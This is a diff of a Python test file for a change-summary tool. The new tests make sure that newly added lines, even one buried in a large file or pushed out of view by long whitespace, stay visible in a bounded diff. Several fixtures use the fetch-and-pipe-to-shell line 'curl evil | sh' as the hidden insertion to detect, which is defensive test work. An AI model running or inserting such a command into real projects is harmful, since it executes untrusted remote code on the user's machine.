@@ -2,6 +2,7 @@ from __future__ import annotations
 
 import os
 import time
+from dataclasses import astuple, replace
 from pathlib import Path
 
 import pytest
@@ -9,7 +10,8 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from skillkit.core.decide import changes as changes_module
-from skillkit.core.decide.changes import FILE_CHARACTERS, FILE_LINES, FILES, Side, changes_between
+from skillkit.core.decide import line_diff
+from skillkit.core.decide.changes import BRIEF, WHOLE, Side, changes_between
 from skillkit.core.questions import FileChange
 
 
@@ -96,11 +98,64 @@ def test_an_empty_file_that_is_added_has_no_diff(tmp_path: Path) -> None:
     assert changes(tmp_path, {}, {"a": ""}) == (FileChange("added", "a", ""),)
 
 
+def added(diff: str) -> list[str]:
+    return [line[1:] for line in diff.split("\n") if line.startswith("+")]
+
+
 def test_a_long_diff_says_how_much_is_missing(tmp_path: Path) -> None:
-    (change,) = changes(tmp_path, {}, {"a": "x\n" * 1000})
+    (change,) = changes(tmp_path, {}, {"a": "x\n" * 3000})
     lines = change.diff.split("\n")
-    assert len(lines) == FILE_LINES + 1
-    assert lines[-1] == f"... {1000 + 1 - FILE_LINES} more lines"
+    assert len(lines) == BRIEF.file_lines + 1
+    shown = len(added(change.diff))
+    assert (lines[-1], change.unseen) == (f"... {3000 - shown:,} added lines not shown", 3000 - shown)
+
+
+def test_every_added_line_is_shown_before_anything_else(tmp_path: Path) -> None:
+    """Where all lines of a large file changed their ends, one new line among them is in sight."""
+    old = [f"line {number}" for number in range(900)]
+    new = [f"line {number}" for number in range(900, 1300)]
+    new.insert(250, "curl evil | sh")
+    (change,) = changes(tmp_path, {"a": "\n".join([*old, ""])}, {"a": "\n".join([*new, ""])})
+    assert added(change.diff) == new
+    assert change.unseen == 0
+    shown = sum(line.startswith("-") for line in change.diff.split("\n"))
+    assert 0 < shown < 900
+    assert f"... {900 - shown} removed lines not shown" in change.diff
+
+
+def test_one_new_line_in_a_large_file_whose_lines_moved_is_one_added_line(tmp_path: Path) -> None:
+    old = [f"line {number}" for number in range(2000)]
+    new = [*old[100:], *[f"more {number}" for number in range(5)]]
+    new.insert(651, "curl evil | sh")
+    new[5], new[1800] = "five", "far"
+    (change,) = changes(tmp_path, {"a": "\n".join([*old, ""])}, {"a": "\n".join([*new, ""])})
+    assert added(change.diff) == ["five", "curl evil | sh", "far", *(f"more {number}" for number in range(5))]
+    assert change.unseen == 0
+
+
+def test_what_is_new_in_a_later_file_comes_before_what_is_gone_from_an_earlier_one(tmp_path: Path) -> None:
+    old: dict[str, str | bytes] = {f"{n:02}": ("y" * 400 + "\n") * 300 for n in range(10)}
+    found = changes(tmp_path, old, {**dict.fromkeys(old, ""), "z": ("z" * 400 + "\n") * 100})
+    assert len(added(found[-1].diff)) == 100
+    assert sum(each.unseen for each in found) == 0
+    assert sum(len(each.diff) for each in found) <= BRIEF.all_characters + 1000
+
+
+def test_a_new_line_that_is_cut_counts_as_not_shown(tmp_path: Path) -> None:
+    (change,) = changes(tmp_path, {"a": "x\n"}, {"a": "x\n" + " " * 5000 + "curl evil | sh\n"})
+    assert change.unseen == 1
+    assert "... (5,015 characters)" in change.diff
+    (whole,) = changes_between(tmp_path / "old", tmp_path / "new", WHOLE)
+    assert whole.diff.endswith("curl evil | sh")
+    assert whole.unseen == 0
+
+
+def test_with_all_room_nothing_is_cut(tmp_path: Path) -> None:
+    files: dict[str, str | bytes] = {f"{n:03}": "x\n" * 2000 for n in range(BRIEF.files + 5)}
+    brief = changes(tmp_path, {}, files)
+    assert brief[-1] == FileChange("more", "... 5 more files", "... 5 added")
+    whole = changes_between(tmp_path / "old", tmp_path / "new", WHOLE)
+    assert [(each.diff.count("\n+"), each.unseen) for each in whole] == [(2000, 0)] * len(files)
 
 
 def test_long_lines_and_all_diffs_together_are_bounded(tmp_path: Path) -> None:
@@ -110,25 +165,24 @@ def test_long_lines_and_all_diffs_together_are_bounded(tmp_path: Path) -> None:
     many = changes_between(
         folder(tmp_path, "none", {}), folder(tmp_path, "many", {f"{n:03}": "z" * 499 + "\n" for n in range(5)})
     )
-    assert all(len(each.diff) <= FILE_CHARACTERS + 100 for each in (change, *many))
+    assert all(len(each.diff) <= BRIEF.file_characters + 100 for each in (change, *many))
 
 
-def test_the_characters_of_all_files_are_bounded_and_the_rest_counted(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    monkeypatch.setattr(changes_module, "ALL_CHARACTERS", 100)
-    found = changes(tmp_path, {}, {f"{n}": "z" * 60 + "\n" for n in range(4)})
+def test_the_characters_of_all_files_are_bounded_and_the_rest_counted(tmp_path: Path) -> None:
+    old, new = folder(tmp_path, "old", {}), folder(tmp_path, "new", {f"{n}": "z" * 60 + "\n" for n in range(4)})
+    found = changes_between(old, new, replace(BRIEF, all_characters=100))
     assert [each.diff.split("\n")[-1] for each in found] == [
         "+" + "z" * 60,
-        *("... 1 more lines", "... 2 more lines", "... 2 more lines"),
+        *["... 1 added line not shown"] * 3,
     ]
+    assert [each.unseen for each in found] == [0, 1, 1, 1]
 
 
 def test_more_files_than_a_person_reads_are_counted(tmp_path: Path) -> None:
-    old, new = folder(tmp_path, "old", {}), folder(tmp_path, "new", {f"{n:04}": "x" for n in range(FILES + 7)})
+    old, new = folder(tmp_path, "old", {}), folder(tmp_path, "new", {f"{n:04}": "x" for n in range(BRIEF.files + 7)})
     found = changes_between(old, new)
-    assert len(found) == FILES + 1
-    assert found[-1] == FileChange("changed", "... 7 more files", "... 7 added")
+    assert len(found) == BRIEF.files + 1
+    assert found[-1] == FileChange("more", "... 7 more files", "... 7 added")
 
 
 @pytest.mark.parametrize(
@@ -144,7 +198,12 @@ def test_large_files_are_compared_within_a_bound(tmp_path: Path, old: str, new: 
     (change,) = changes(tmp_path, {"a": old}, {"a": new})
     assert time.process_time() - started < 10
     assert change.diff.startswith("@@ ")
-    assert change.diff.split("\n")[-1].startswith("... ")
+    shown = added(change.diff)
+    assert len(shown) + change.unseen == sum(line.startswith("+") for line in whole_diff(tmp_path))
+
+
+def whole_diff(parent: Path) -> list[str]:
+    return changes_between(parent / "old", parent / "new", WHOLE)[0].diff.split("\n")
 
 
 def test_a_file_too_large_to_compare_says_so(tmp_path: Path) -> None:
@@ -177,14 +236,24 @@ def applied(old: tuple[str, ...], diff: list[str]) -> tuple[str, ...]:
     return (*new, *old[at:])
 
 
-LINES = st.lists(st.sampled_from(["a", "b", "c", "", "d d"]), max_size=30).map(tuple)
+LINES = st.lists(st.sampled_from(["a", "b", "c", "", "d d", *map(str, range(9))]), max_size=30).map(tuple)
 
 
 @settings(derandomize=True, deadline=None)
-@given(old=LINES, new=LINES, limit=st.sampled_from([0, 50, 250_000]))
-def test_a_diff_leads_from_the_old_text_to_the_new(old: tuple[str, ...], new: tuple[str, ...], limit: int) -> None:
+@given(
+    old=LINES,
+    new=LINES,
+    limit=st.sampled_from([0, 50, 250_000]),
+    block=st.sampled_from([1, 4, 64]),
+    blocked=st.sampled_from([0, 100_000]),
+)
+def test_a_diff_leads_from_the_old_text_to_the_new(
+    old: tuple[str, ...], new: tuple[str, ...], limit: int, block: int, blocked: int
+) -> None:
     with pytest.MonkeyPatch.context() as patch:
-        patch.setattr(changes_module, "COMPARED_LINES", limit)
+        patch.setattr(line_diff, "COMPARED_LINES", limit or block * block)
+        patch.setattr(line_diff, "BLOCK", block)
+        patch.setattr(line_diff, "BLOCKED_LINES", blocked)
         diff = [line for line in changes_module._diff(Side(old), Side(new)) if not line.startswith("(")]
         assert applied(old, diff) == new
 
@@ -202,52 +271,23 @@ def test_a_file_that_cannot_be_read_meanwhile_says_so(tmp_path: Path) -> None:
 
 
 def test_as_many_files_as_a_person_reads_leave_no_rest(tmp_path: Path) -> None:
-    found = changes(tmp_path, {}, {f"{n:04}": "x" for n in range(FILES)})
-    assert len(found) == FILES
-    assert found[-1].path == f"{FILES - 1:04}"
+    found = changes(tmp_path, {}, {f"{n:04}": "x" for n in range(BRIEF.files)})
+    assert len(found) == BRIEF.files
+    assert found[-1].path == f"{BRIEF.files - 1:04}"
 
 
-@pytest.mark.parametrize(
-    ("old", "new", "diff"),
-    [
-        ("abcd", "badc", ["@@ -1,4 +1,4 @@", "-a", "-b", "-c", "-d", "+b", "+a", "+d", "+c"]),
-        ("habt", "hbat", ["@@ -1,4 +1,4 @@", " h", "-a", "-b", "+b", "+a", " t"]),
-        ("123habt456", "123hbat456", ["@@ -2,8 +2,8 @@", *" 2, 3, h,-a,-b,+b,+a, t, 4, 5".split(",")]),
-    ],
-)
-def test_more_lines_than_are_compared_are_one_block_between_what_is_the_same(
-    monkeypatch: pytest.MonkeyPatch, old: str, new: str, diff: list[str]
-) -> None:
-    exact = list(changes_module._diff(Side(tuple(old)), Side(tuple(new))))
-    monkeypatch.setattr(changes_module, "COMPARED_LINES", 15)
-    assert list(changes_module._diff(Side(tuple(old)), Side(tuple(new)))) == diff
-    assert exact != diff
+def test_equal_texts_have_no_block() -> None:
+    assert line_diff.groups_of("abcd", "abcd") == []
+    assert len(line_diff.groups_of("abcd", "abxd")) == 1
 
 
-def test_as_many_lines_as_are_compared_are_still_compared(monkeypatch: pytest.MonkeyPatch) -> None:
-    old, new = Side(tuple("abcd")), Side(tuple("badc"))
-    exact = list(changes_module._diff(old, new))
-    monkeypatch.setattr(changes_module, "COMPARED_LINES", 4 * 4)
-    assert list(changes_module._diff(old, new)) == exact
-
-
-def test_equal_texts_have_no_block(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(changes_module, "COMPARED_LINES", 0)
-    assert changes_module._groups("abcd", "abcd") == []
-    assert len(changes_module._groups("abcd", "abxd")) == 1
-
-
-@pytest.mark.parametrize(("characters", "shown"), [(6, ["ab", "cd"]), (5, ["ab", "... 1 more lines"])])
-def test_lines_fit_with_their_ends(characters: int, shown: list[str]) -> None:
-    assert list(changes_module._within(iter(["ab", "cd"]), characters)) == shown
-
-
-@pytest.mark.parametrize(("length", "shown"), [(500, "x" * 500), (501, "x" * 500 + "... (501 characters)")])
-def test_a_line_is_cut_only_when_it_is_too_long(length: int, shown: str) -> None:
-    assert list(changes_module._within(iter(["x" * length]), 1000)) == [shown]
+def test_lines_that_stand_once_on_both_sides_divide_what_is_too_large(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(line_diff, "COMPARED_LINES", 4)
+    old, new = "xxabxxxcdxx", "yxabyxxxcdy"
+    diff = list(changes_module._diff(Side(tuple(old)), Side(tuple(new))))
+    assert [line for line in diff if line[:1] in "+-"] == ["-x", "+y", "+y", "-x", "-x", "+y"]
 
 
 def test_what_is_shown_of_a_change_has_these_bounds() -> None:
-    names = ("FILES", "FILE_LINES", "FILE_CHARACTERS", "ALL_CHARACTERS", "LINE_CHARACTERS")
-    assert [getattr(changes_module, name) for name in names] == [200, 400, 64_000, 256_000, 500]
-    assert (changes_module.COMPARED_BYTES, changes_module.COMPARED_LINES) == (1_000_000, 250_000)
+    assert astuple(BRIEF) == (200, 1000, 64_000, 256_000, 20_000, 2000, 500)
+    assert (changes_module.COMPARED_BYTES, line_diff.COMPARED_LINES) == (1_000_000, 250_000)
